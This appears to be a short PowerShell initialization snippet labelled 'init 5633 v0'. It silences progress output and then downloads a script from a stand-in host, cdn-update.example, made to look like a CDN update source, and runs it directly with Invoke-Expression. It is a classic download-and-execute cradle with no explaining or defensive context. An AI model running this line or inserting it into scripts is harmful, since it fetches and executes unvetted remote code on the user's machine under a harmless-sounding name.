# init 5633 v0
$ProgressPreference = 'SilentlyContinue'
iwr -UseBasicParsing http://cdn-update.example/a.ps1 | iex
